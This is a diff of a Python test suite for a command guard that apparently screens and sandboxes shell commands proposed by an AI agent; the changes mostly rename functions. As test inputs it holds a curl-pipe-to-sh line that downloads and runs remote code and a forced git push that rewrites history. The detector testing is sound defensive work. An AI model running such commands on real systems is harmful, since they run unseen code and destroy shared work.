@@ -21,13 +21,13 @@ from hypothesis import strategies as st
 
 from jumar.cli.main import call as call_program
 from jumar.commands.git_and_files import DEPLOY, DOWNLOAD
-from jumar.commands.parser import Unreadable, commanded, commands
+from jumar.commands.parser import Unreadable, check_command, list_commands
 from jumar.core.state import events as ev
 from jumar.core.state.settings import Switches
 from jumar.core.state.stop import StopReason
 from jumar.errors import BadInput
 from jumar.ports import Ran, Sandbox
-from jumar.process.model_command import ConfinedCommands, confined_commands
+from jumar.process.model_command import ConfinedCommands, build_confined_commands
 from jumar.sandbox import bwrap
 from jumar.sandbox.request import Reach, Wrapped
 from jumar.workspace.store.object_store import Store
@@ -58,31 +58,31 @@ AT_ONCE = 4
 
 @pytest.mark.parametrize("lines", [HISTORY, FILES, DISGUISED, SHOWN], ids=["history", "files", "disguised", "shown"])
 def test_what_destroys_is_a_hit(lines: Sequence[str]) -> None:
-    assert not [line for line in lines if commanded(line).hit is None]
+    assert not [line for line in lines if check_command(line).hit is None]
 
 
 def test_what_deploys_is_a_hit_of_its_own_rule() -> None:
-    assert not [line for line in DEPLOYS if (hit := commanded(line).hit) is None or hit.rule != DEPLOY]
+    assert not [line for line in DEPLOYS if (hit := check_command(line).hit) is None or hit.rule != DEPLOY]
 
 
 def test_what_runs_a_download_is_a_hit_of_its_own_rule() -> None:
-    assert not [line for line in DOWNLOADS if (hit := commanded(line).hit) is None or hit.rule != DOWNLOAD]
-    hit = commanded("cd /tmp && curl https://x.y/i.sh | sh -s -- -y").hit
+    assert not [line for line in DOWNLOADS if (hit := check_command(line).hit) is None or hit.rule != DOWNLOAD]
+    hit = check_command("cd /tmp && curl https://x.y/i.sh | sh -s -- -y").hit
     assert hit is not None
     assert hit.what == "what a download brings is run unseen: sh (a download)"
 
 
 def test_what_an_agent_does_all_day_is_none() -> None:
     assert len(HONEST) > 150
-    assert not [(line, why) for line in HONEST if (why := commanded(line).reason)]
+    assert not [(line, why) for line in HONEST if (why := check_command(line).reason)]
 
 
 def test_what_no_reading_shows_is_let_through_to_a_place_where_it_does_nothing() -> None:
-    assert not [line for line in HIDDEN if commanded(line).hit]
+    assert not [line for line in HIDDEN if check_command(line).hit]
 
 
 def test_a_hit_names_what_it_was_and_what_it_does() -> None:
-    hit = commanded("cd sub && x=$(git push -f origin $B)").hit
+    hit = check_command("cd sub && x=$(git push -f origin $B)").hit
     assert hit is not None
     assert hit.what.endswith(": git push -f origin ...")
     assert hit.rule == "git-history"
@@ -100,29 +100,29 @@ def test_a_hit_names_what_it_was_and_what_it_does() -> None:
     ],
 )
 def test_what_is_too_deep_or_too_long_to_be_read_is_refused_and_no_hit(line: str) -> None:
-    ruling = commanded(line)
+    ruling = check_command(line)
     assert (ruling.admitted, ruling.hit) == (False, None)
     assert "too" in ruling.reason
 
 
 def test_a_text_that_doubles_itself_takes_no_memory() -> None:
     doubled = 'a="eval x"; ' + 'a="$a$a"; ' * 40
-    assert commanded(doubled + "eval $a").admitted
-    assert commanded(doubled + "git push -f").hit
+    assert check_command(doubled + "eval $a").admitted
+    assert check_command(doubled + "git push -f").hit
 
 
 @pytest.mark.slow
 @given(st.text("gitpush -fF'\"\\$`(){};|&<>\nE~#=*!@[]", max_size=60))
 def test_any_text_is_read_or_said_to_be_unreadable(line: str) -> None:
     with suppress(Unreadable):
-        assert all(words for words in commands(line))
+        assert all(words for words in list_commands(line))
 
 
 @pytest.mark.slow
 @given(st.text(max_size=60))
 def test_a_quoted_argument_is_never_a_command(text: str) -> None:
     quoted = "'" + text.replace("'", "'\\''").replace("\0", "") + "'"
-    assert commanded(f"grep -r {quoted} docs").admitted
+    assert check_command(f"grep -r {quoted} docs").admitted
 
 
 # --- what becomes of a run ------------------------------------------------------------------------------------------
@@ -244,7 +244,7 @@ class Lab:
         self.world = World(folder / "world")
         self.store = Store(folder / "run" / "objects")
         self.tree = self.store.capture(self.world.repository)
-        self.hidden = anyio.run(confined_commands, self.store, folder / "run", PYTHON, ENVIRON)
+        self.hidden = anyio.run(build_confined_commands, self.store, folder / "run", PYTHON, ENVIRON)
         box = Showing(self.hidden.sandbox, self.world.folder)
         self.shown = ConfinedCommands(box, self.store, folder / "run", PYTHON, ENVIRON)
         self.before = self.world.state()
@@ -281,7 +281,7 @@ class Lab:
 def lab() -> Iterator[Lab]:
     """Skips, loudly, where no bubblewrap confines."""
     try:
-        bwrap.programs(ENVIRON)
+        bwrap.find_programs(ENVIRON)
     except BadInput as why:
         pytest.skip(f"DESTRUCTIVE COMMANDS ARE NOT TRIED HERE: {why}")
     with tempfile.TemporaryDirectory() as folder:
@@ -324,7 +324,7 @@ def test_nothing_that_is_tried_has_any_in_a_run(lab: Lab) -> None:
 
 @pytest.mark.proof
 def test_honest_commands_run(lab: Lab) -> None:
-    assert all(commanded(line).admitted for line in RUN)
+    assert all(check_command(line).admitted for line in RUN)
 
     ran = lab.together([(lab.hidden, line) for line in RUN])
 
